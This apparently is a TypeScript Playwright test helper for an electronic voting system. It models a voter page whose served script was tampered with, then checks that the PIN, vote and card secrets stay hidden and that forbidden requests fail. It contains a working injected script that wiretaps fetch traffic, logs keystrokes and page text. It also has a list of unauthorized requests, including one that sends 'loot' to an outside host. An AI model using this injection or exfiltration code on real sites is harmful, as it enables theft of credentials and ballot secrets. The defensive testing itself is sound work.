/**
 * A voter's page whose script was altered by whoever serves it: it keeps all that passes through it, reads what it can
 * reach, and tries what a hostile PC would try. It has the page's own origin and rights.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright';
import type { Ballot } from '../../../ballots/ballot.ts';
import { encodeVote } from '../../../ballots/vote-encoding.ts';
import type { Vote } from '../../../ballots/vote-rules.ts';
import { formsOf, secretsOf } from '../../support/card-secrets.ts';
import { type Office, PIN } from './office.ts';

/** Stands before the page's own script: whatever is fetched, asked and answered, goes to the thief. */
const THIEF = `(() => {
  const hex = (bytes) => Array.from(new Uint8Array(bytes), (b) => b.toString(16).padStart(2, '0')).join('');
  const real = window.fetch.bind(window);
  window.fetch = async (url, init) => {
    const answer = await real(url, init);
    const body = init?.body instanceof Uint8Array ? hex(init.body) : String(init?.body ?? '');
    window.steal('wire', [String(url), body, hex(await answer.clone().arrayBuffer())].join(' '));
    return answer;
  };
  addEventListener('keydown', (event) => window.steal('seen', 'key ' + event.key), true);
  new MutationObserver(() => window.steal('seen', document.body?.innerText ?? ''))
    .observe(document, { subtree: true, childList: true, characterData: true });
})();
`;

export interface Attempt {
  readonly attack: string;
  /** 600 if the browser did not even let it pass. */
  readonly status: number;
}

export interface HostilePage {
  readonly context: BrowserContext;
  /** Tries everything once, in the middle of a session of the voter. */
  attack(page: Page): Promise<Attempt[]>;
  /** Nothing that it got tells PIN, choice or key. */
  requireIgnorant(voter: string, vote: Vote): void;
}

export async function openHostilePage(
  browser: Browser,
  office: Office,
  ballot: Ballot,
): Promise<HostilePage> {
  const loot: Record<'wire' | 'seen', string[]> = { wire: [], seen: [] };
  const context = await browser.newContext({ locale: 'en-GB' });
  await context.exposeFunction('steal', (kind: 'wire' | 'seen', what: string) => {
    loot[kind].push(what);
  });
  await context.route('**/_next/static/chunks/*.js', async (route) => {
    const honest = await route.fetch();
    await route.fulfill({ response: honest, body: THIEF + (await honest.text()) });
  });
  return {
    context,
    attack: (page) => tryAll(page, office),
    requireIgnorant(voter, vote) {
      const seen = loot.seen.join('\n');
      assert.ok(
        seen.length > 1000 && loot.wire.some((one) => one.includes('/finlet/voting ')),
        'it was there',
      );
      assert.equal(seen.includes(PIN) || seen.includes(`key ${PIN[0]}`), false, 'the PIN');
      const wire = Buffer.from(loot.wire.join('\n'));
      const card = secretsOf(join(office.cards, `${voter}.card`));
      for (const secret of [Buffer.from(PIN), encodeVote(ballot, vote), ...card])
        for (const form of formsOf(secret).slice(1)) assert.equal(wire.includes(form), false);
    },
  };
}

function tryAll(page: Page, { terminal, local, station }: Office): Promise<Attempt[]> {
  const cbor = { 'content-type': 'application/cbor' };
  const json = { 'content-type': 'application/json' };
  const junk = String.fromCharCode(0x82, 1, 2);
  const attempts: readonly (readonly [attack: string, url: string, init: object])[] = [
    ['read the display', `${terminal.human}/display`, {}],
    ['press a key', `${terminal.human}/keys`, { method: 'POST', body: '{"keys":["ok"]}' }],
    [
      'press a key as JSON',
      `${terminal.human}/keys`,
      { method: 'POST', headers: json, body: '{"keys":["ok"]}' },
    ],
    ['take the card out', `${terminal.human}/card`, { method: 'POST', body: '{"remove":true}' }],
    ['install a Finlet', `${terminal.pc}/finlet`, { method: 'POST', headers: cbor, body: junk }],
    ['forge an echo', `${terminal.pc}/finlet/voting/echo`, { method: 'POST', headers: cbor, body: junk }],
    [
      'skip to the onion',
      `${terminal.pc}/finlet/voting/onion`,
      { method: 'POST', headers: cbor, body: '\u0080' },
    ],
    [
      'say that it was sent',
      `${terminal.pc}/finlet/voting/sent`,
      { method: 'POST', headers: cbor, body: '' },
    ],
    ['read the card', `${terminal.pc}/finlet/card`, { method: 'POST', headers: cbor, body: junk }],
    ['be the officer', `${local.commissionerUrl}/officer/elections`, { credentials: 'include' }],
    ['make cards', `${station}/desk/batch`, { method: 'POST', headers: json, body: '{}' }],
    ['tell a stranger', 'https://example.org/', { method: 'POST', mode: 'no-cors', body: 'loot' }],
  ];
  return page.evaluate(
    async (all) => {
      const done = [];
      for (const [attack, url, init] of all) {
        const answer = await fetch(url, init).catch(() => undefined);
        done.push({ attack, status: answer?.status ?? 600 });
      }
      return done;
    },
    attempts as [string, string, object][],
  );
}
